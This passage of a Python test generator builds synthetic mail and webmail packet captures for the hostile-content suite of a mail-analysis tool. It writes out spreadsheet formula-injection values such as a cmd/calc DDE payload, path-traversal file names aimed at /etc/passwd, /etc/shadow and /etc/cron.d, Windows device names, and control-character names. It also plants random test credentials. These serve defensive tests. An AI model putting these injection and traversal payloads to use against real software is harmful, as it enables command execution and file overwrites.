    eq, plus, minus, at, tab, cr = FORMULAS
    headers = crlf(f"From: {encoded_word(at)} <from@evil.test>\n"
                   f"To: {encoded_word(plus)} <bob@example.net>, {encoded_word(tab)} <t@example.net>\n"
                   f"Cc: {encoded_word(minus)} <cc@example.net>\n"
                   f"Subject: {eq}\n"
                   "Message-ID: =1+1@evil.test\n"
                   f"Date: Mon, 1 Jan 2024 12:00:00 +0000\n"
                   f"User-Agent: {at}\n"
                   f"Received: from {plus} by {eq} with ESMTP; Mon, 1 Jan 2024 11:00:00 +0000\n")
    parts = [attachment(f'filename="{at}.txt"', b"a"), attachment('filename="=1+1.txt"', b"b"),
             attachment(f'filename="{minus}.txt"', b"c"), attachment(f'filename="{plus}.txt"', b"d"),
             attachment("filename*=utf-8''" + quote(tab, safe="") + ".txt", b"e"),
             attachment("filename*=utf-8''" + quote(cr, safe="") + ".txt", b"f", ctype="=cmd/x")]
    msg = mime(headers, parts)
    msg2 = crlf(f"From: alice@example.org\nSubject: {encoded_word(cr)}\nMessage-ID: <m2@evil.test>\n"
                f"Content-Disposition: attachment; filename=\"{eq}\"\n\nbody\n")
    smtp(cap, 40000, plus.encode(), [(eq.replace(" ", "").encode() + b"@evil.test", msg), (b"-a@example.org", msg2)],
         greeting=b"=mx.example.net", queued=eq.replace(" ", "").encode(),
         before=[b"AUTH PLAIN " + base64.b64encode(b"\0=HYPERLINK(\"x\")\0pw") + b"\r\n", b"235 ok\r\n",
                 b"=CMD " + eq.encode() + b"\r\n", b"500 " + minus.encode() + b"\r\n",
                 b"NOOP " + at.encode() + b"\r\n", b"250 " + eq.encode() + b"\r\n"])
    session(cap, 40001, 143, b"* OK " + eq.encode() + b"\r\n", b'a1 LOGIN "' + plus.encode() + b'" "pw"\r\n',
            b"a1 OK " + minus.encode() + b"\r\n", b'a2 LIST "" "*"\r\n',
            b'* LIST () "/" "=mbox"\r\n* LIST () "/" "@box"\r\n* LIST () "/" "-box"\r\na2 OK\r\n',
            b'a3 SELECT "=HYPERLINK(1)"\r\n', b"* 1 EXISTS\r\n* OK [UIDVALIDITY 7] x\r\na3 OK [READ-WRITE] done\r\n",
            b"a4 FETCH 1 (BODY[])\r\n", b"* 1 FETCH (BODY[] {%d}\r\n" % len(msg) + msg + b")\r\na4 OK\r\n",
            b"a5 LOGOUT\r\n", b"* BYE\r\na5 OK\r\n")
    session(cap, 40002, 110, b"+OK " + at.encode() + b"\r\n", b"USER -" + at.encode() + b"\r\n", b"+OK\r\n",
            b"PASS pw\r\n", b"-ERR " + eq.encode() + b"\r\n", b"USER @cmd\r\n", b"+OK\r\n", b"PASS pw\r\n", b"+OK\r\n",
            b"RETR 1\r\n", b"+OK\r\n" + msg2 + b".\r\n", b"QUIT\r\n", b"+OK bye\r\n")
    ua = b"User-Agent: " + at.encode() + b"\r\n"
    webmail(cap, 40003, [
        (http_request(b"GET", b"/mail?q==1+1", extra=ua + b"Referer: =HYPERLINK(1)\r\n", host=b"=1+1.example"),
         http_response(b"ok", status=b"200 " + eq.encode())),
        (http_request(b"=GET", b"/x", extra=ua), http_response(b"no", status=b"400 -bad")),
        (http_request(b"POST", b"/login", form({"user": "=cmd|' /C calc'!A0", "pass": "pw"}),
                      b"application/x-www-form-urlencoded", ua), http_response(status=b"302 Found",
                                                                                extra=b"Location: /mail\r\n")),
        (http_request(b"POST", b"/?_task=mail&_action=send",
                      form({"_task": "mail", "_action": "send", "_id": "c1", "_to": "bob@example.net",
                            "_subject": eq, "_message": "x"}), b"application/x-www-form-urlencoded", ua),
         http_response(b'{"action":"send"}', b"application/json")),
        (http_request(b"PUT", b"/upload/x", b"data", b"application/octet-stream", b"X-File-Name: " + at.encode() + b"\r\n"),
         http_response(status=b"201 Created")),
    ])
    return gz(cap.pcap())


# -- 5. planted secrets ---------------------------------------------------------------------------
_rng = random.Random(14_2024)


def _secret(n: int = 16, alphabet: str = string.ascii_letters + string.digits) -> str:
    return "".join(_rng.choice(alphabet) for _ in range(n))


SECRETS = {
    "smtp_auth_plain": Secret("smtp_auth_plain", _secret(), "alice"),
    "smtp_auth_login": Secret("smtp_auth_login", _secret(), "bob"),
    "smtp_plain_cut_by_end": Secret("smtp_plain_cut_by_end", _secret(), "carol"),
    "smtp_login_cut_by_end": Secret("smtp_login_cut_by_end", _secret(), "dan"),
    "imap_login_atom": Secret("imap_login_atom", _secret(), "erin"),
    "imap_login_quoted": Secret("imap_login_quoted", f"{_secret(9)} {_secret(9)} {_secret(9)}", "fred"),
    "imap_login_literal": Secret("imap_login_literal", _secret(), "gwen"),
    "pop3_pass_spaces": Secret("pop3_pass_spaces", f"PwPop3 {_secret(9)} {_secret(9)} tail", "hugo"),
    "pop3_apop": Secret("pop3_apop", _secret(32, "0123456789abcdef"), "iris"),
    "http_basic": Secret("http_basic", _secret(), "jack"),
    "http_bearer": Secret("http_bearer", _secret(40)),
    "webmail_login_form": Secret("webmail_login_form", _secret(), "kate"),
    "webmail_json_login": Secret("webmail_json_login", _secret(), "liam@example.net"),
    "webmail_cookie": Secret("webmail_cookie", _secret(), kept=False),
}


def _b64(data: bytes) -> bytes:
    return base64.b64encode(data)


@case("planted-secrets.pcap.gz", "a unique secret in each place a password travels: SMTP AUTH PLAIN and LOGIN, "
      "an AUTH PLAIN response and an AUTH LOGIN password cut by the end of the capture, IMAP LOGIN with an atom, "
      "a quoted password with spaces and a literal, POP3 PASS with spaces, APOP, HTTP Basic and Bearer, a "
      "session cookie, a Roundcube login form and a JSON login: --redact must leave none of them (or their "
      "base64) in any output", anomalies=["smtp_incomplete_line"],
      secrets=[asdict(s) for s in SECRETS.values()])
def planted_secrets() -> bytes:
    cap = Capture()
    s = SECRETS
    smtp(cap, 40000, b"client.example.org", [(b"alice@example.org", crlf("Subject: hello\nMessage-ID: <s1@example.org>\n\nhi\n"))],
         sport=587, before=[b"AUTH PLAIN " + _b64(b"\0alice\0" + s["smtp_auth_plain"].secret.encode()) + b"\r\n",
                            b"235 2.7.0 ok\r\n"])
    conv = Conversation(cap, cport=40001, sport=587).open()
    conv.dialogue(b"220 mx ESMTP\r\n", b"EHLO c\r\n", b"250-mx\r\n250 AUTH PLAIN LOGIN\r\n", b"AUTH LOGIN\r\n",
                  b"334 VXNlcm5hbWU6\r\n", _b64(b"bob") + b"\r\n", b"334 UGFzc3dvcmQ6\r\n",
                  _b64(s["smtp_auth_login"].secret.encode()) + b"\r\n", b"535 5.7.8 no\r\n", b"QUIT\r\n", b"221 bye\r\n")
    conv.close()
    # cut by the end of the capture: no CRLF, no reply, no FIN
    session(cap, 40002, 587, b"220 mx ESMTP\r\n", b"EHLO c\r\n", b"250-mx\r\n250 AUTH PLAIN LOGIN\r\n", b"AUTH PLAIN\r\n",
            b"334 \r\n", _b64(b"\0carol\0" + s["smtp_plain_cut_by_end"].secret.encode()), close=False)
    session(cap, 40003, 587, b"220 mx ESMTP\r\n", b"EHLO c\r\n", b"250-mx\r\n250 AUTH PLAIN LOGIN\r\n", b"AUTH LOGIN\r\n",
            b"334 VXNlcm5hbWU6\r\n", _b64(b"dan") + b"\r\n", b"334 UGFzc3dvcmQ6\r\n",
            _b64(s["smtp_login_cut_by_end"].secret.encode()), close=False)
    lit = s["imap_login_literal"].secret.encode()
    session(cap, 40004, 143, b"* OK [CAPABILITY IMAP4rev1 AUTH=PLAIN] ready\r\n",
            b"a1 LOGIN erin " + s["imap_login_atom"].secret.encode() + b"\r\n", b"a1 NO [AUTHENTICATIONFAILED] no\r\n",
            b'a2 LOGIN "fred" "' + s["imap_login_quoted"].secret.encode() + b'"\r\n', b"a2 NO no\r\n",
            b"a3 LOGIN gwen {%d}\r\n" % len(lit), b"+ Ready\r\n", lit + b"\r\n", b"a3 OK done\r\n",
            b"a4 LOGOUT\r\n", b"* BYE\r\na4 OK\r\n")
    session(cap, 40005, 110, b"+OK POP3 ready <1896.697170952@pop.example>\r\n", b"USER hugo\r\n", b"+OK\r\n",
            b"PASS " + s["pop3_pass_spaces"].secret.encode() + b"\r\n", b"-ERR no\r\n",
            b"APOP iris " + s["pop3_apop"].secret.encode() + b"\r\n", b"+OK in\r\n", b"QUIT\r\n", b"+OK bye\r\n")
    login = form({"_token": "t", "_task": "login", "_action": "login", "_user": "kate",
                  "_pass": s["webmail_login_form"].secret})
    jlogin = json.dumps({"username": "liam@example.net", "password": s["webmail_json_login"].secret}).encode()
    webmail(cap, 40006, [
        (http_request(b"GET", b"/private", extra=b"Authorization: Basic "
                      + _b64(b"jack:" + s["http_basic"].secret.encode()) + b"\r\n"), http_response(b"ok")),
        (http_request(b"POST", b"/?_task=login", login, b"application/x-www-form-urlencoded"),
         http_response(status=b"302 Found", extra=b"Location: /?_task=mail\r\nSet-Cookie: roundcube_sessauth="
                       + s["webmail_cookie"].secret.encode() + b"; path=/; HttpOnly\r\n")),
        (http_request(b"GET", b"/?_task=mail", extra=b"Cookie: roundcube_sessauth=" + s["webmail_cookie"].secret.encode()
                      + b"\r\n"), http_response(b"<p>inbox</p>")),
        (http_request(b"POST", b"/api/login", jlogin, b"application/json"),
         http_response(b'{"ok": true}', b"application/json")),
        (http_request(b"POST", b"/jmap/api/", jmap([["Mailbox/get", {"accountId": "A"}, "0"]]), b"application/json",
                      b"Authorization: Bearer " + s["http_bearer"].secret.encode() + b"\r\n"),
         http_response(b'{"methodResponses": []}', b"application/json")),
    ])
    return gz(cap.pcap())


# -- 6. hostile file names --------------------------------------------------------------------------
@case("file-names.pcap.gz", "file names an extraction must defuse, in attachments (plain, RFC 2047 and RFC 2231 "
      "with continuations), a message/rfc822 part, Subjects and Message-IDs (which name the .eml files), HTTP "
      "uploads (multipart, X-File-Name, PUT) and downloads (Content-Disposition): Windows devices (CON .txt, "
      "NUL .txt, COM\u00b9.pdf, CONIN$...), traversal (../../etc/passwd, ..\\..\\), absolute and UNC paths, "
      "names with controls and bidi overrides, a name of 5,000 characters, empty names and dots")
def file_names() -> bytes:
    cap = Capture()
    names = DEVICE_NAMES + PATH_NAMES + CONTROL_NAMES + [LONG_NAME, ""]
    parts = []
    for i, n in enumerate(names):
        if i % 3 == 0:
            param = "filename*=utf-8''" + quote(n, safe="")
        elif i % 3 == 1:
            param = f'filename="{encoded_word(n)}"'
        else:
            param = 'filename="' + n.replace("\\", "\\\\").replace('"', '\\"').replace("\n", " ") + '"'
        parts.append(attachment(param, f"content {i}".encode()))
    # RFC 2231 continuations that assemble a traversal and a device name
    parts.append(attachment("filename*0=\"../../\"; filename*1=\"..\"; filename*2=\"/etc/cron.d/x\"", b"cont"))
    parts.append(attachment("filename*0*=utf-8''CON; filename*1*=%20.txt", b"cont2"))
    parts.append(b"--XX\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"NUL .eml\"\r\n\r\n"
                 b"Subject: inner\r\n\r\ninner body\r\n")
    messages = []
    for j, (subject, mid) in enumerate([("../../etc/passwd", "<../../../etc/passwd@evil.test>"),
                                        ("CON .txt", "<CON>"), ("NUL", "<nul.@x>"), (LONG_NAME, "<" + "m" * 3000 + "@x>"),
                                        (f"ctl{ESC}[2J\x07", f"<..\\..\\{ESC}x@y>")]):
        head = crlf(f"From: a@example.org\nSubject: {subject}\nMessage-ID: {mid}\n"
                    f"Date: Mon, 1 Jan 2024 12:00:0{j} +0000\n")
        messages.append((b"a@example.org", mime(head, parts if j == 0 else parts[:3])))
    smtp(cap, 40000, b"client.example.org", messages)
    up = multipart([(b'name="file"; filename="../../etc/passwd"\r\nContent-Type: text/plain', b"p1"),
                    (b'name="file2"; filename="CON .txt"\r\nContent-Type: text/plain', b"p2"),
                    (b'name="file3"; filename="C:\\\\Windows\\\\evil.exe"\r\nContent-Type: application/octet-stream',
                     b"p3")])
    webmail(cap, 40001, [
        (http_request(b"POST", b"/upload", up, b"multipart/form-data; boundary=fb"), http_response(b"ok")),
        (http_request(b"PUT", b"/files/..%2F..%2Fetc%2Fpasswd", b"put", b"application/octet-stream",
                      b"X-File-Name: ../../../tmp/x-file-name\r\n"), http_response(status=b"201 Created")),
        (http_request(b"GET", b"/download/aux"),
         http_response(b"d1", b"application/octet-stream",
                       extra=b'Content-Disposition: attachment; filename="aux.tar.gz"\r\n')),
        (http_request(b"GET", b"/download/abs"),
         http_response(b"d2", b"application/octet-stream",
                       extra=b"Content-Disposition: attachment; filename*=utf-8''%2Fetc%2Fshadow\r\n")),
        (http_request(b"GET", b"/download/long"),
         http_response(b"d3", b"application/octet-stream",
                       extra=b'Content-Disposition: attachment; filename="' + LONG_NAME.encode() + b'"\r\n')),
    ])
    return gz(cap.pcap())


# -- 7. one long session (large: built at test time) ------------------------------------------------
@case("long-session-16000.pcap", "one SMTP session of 16,000 small messages (a relay flushing its queue), built "
      "by tests/fixtures/long_session.py; tests/test_long_session.py checks its joins message by message and "
      "benchmarks/bench_correlation.py times it", large=True)
def long_session() -> bytes:
    import tempfile

    from tests.fixtures.long_session import write
    with tempfile.TemporaryDirectory() as d:
        path = Path(d) / "long.pcap"
        write(str(path), 16_000)
        return path.read_bytes()


# -- building ---------------------------------------------------------------------------------------
def build(name: str, directory: Path) -> Path:
    path = directory / name
    path.write_bytes(CASES[name].build())
    return path


def readme() -> str:
    lines = ["# The hostile-content suite", "",
             "Captures whose every visible string is an attack on the person reading maildissect's output. Every",
             "file here is crafted, byte for byte, by `tests/hostile/make_suite.py` (frames packed with `struct`",
             "in `tests/malformed/packets.py`; fixed timestamps, ports, sequence numbers and secrets; gzip with a",
             "zero mtime), so it can be rebuilt and checked:", "",
             "    python tests/hostile/make_suite.py           # rewrite the files, manifest.json and this README",
             "    python tests/hostile/make_suite.py --check   # exit 1 if anything here differs from a rebuild",
             "    python tests/hostile/make_suite.py --large DIR  # also build the large case into DIR", "",
             "The captures are synthetic: no third-party file is included, and the planted secrets are random",
             "strings that open nothing.", "",
             "`tests/test_hostile.py` runs every command on every file (analyze, flows, sessions, messages,",
             "attachments, files, credentials, commands, http, mailboxes, anomalies, timeline, journeys, report,",
             "extract, export in every format, follow, and live replaying the capture) and checks: exit status 0",
             "with no internal error; terminal output (table format at a forced terminal width, and on a real",
             "pseudo-terminal) without ESC, C1, bidi or other control characters and without markup errors; no",
             "CSV cell that starts a formula; no planted secret, nor its base64, in any output under `--redact`;",
             "no device name and nothing outside its directory from `extract`; no script of the capture's in the",
             "HTML report; the anomalies each case must raise. The capture file names themselves are attacked",
             "by the test (copies named with escapes, markup and HTML).", "",
             "| file | what it carries | expected anomalies |", "|---|---|---|"]
    for c in CASES.values():
        name = f"`{c.name}`" + (" (built at test time)" if c.large else "")
        expect = ", ".join(f"`{a}`" for a in c.anomalies) or "(none required)"
        lines.append(f"| {name} | {c.about} | {expect} |")
    return "\n".join(lines) + "\n"


def manifest() -> dict:
    return {"about": "The hostile-content suite; built by tests/hostile/make_suite.py (see README.md).",
            "cases": [c.manifest() for c in CASES.values()]}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true", help="compare the committed files with a rebuild")
    ap.add_argument("--large", metavar="DIR", help="also build the large case into DIR")
    args = ap.parse_args(argv)
    stale = []
    SUITE.mkdir(parents=True, exist_ok=True)
    for c in CASES.values():
        if c.large:
            continue
        data = c.build()
        path = SUITE / c.name
        if args.check:
            if not path.exists() or path.read_bytes() != data:
                stale.append(c.name)
        else:
            path.write_bytes(data)
    for fname, text in (("manifest.json", json.dumps(manifest(), indent=1, ensure_ascii=True) + "\n"),
                        ("README.md", readme())):
        path = SUITE / fname
        if args.check:
            if not path.exists() or path.read_text(encoding="utf-8") != text:
                stale.append(fname)
        else:
            path.write_text(text, encoding="utf-8")
    if args.large:
        out = Path(args.large)
        out.mkdir(parents=True, exist_ok=True)
        for c in CASES.values():
            if c.large:
                print(build(c.name, out))
    if stale:
        print("out of date (run python tests/hostile/make_suite.py): " + ", ".join(stale))
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
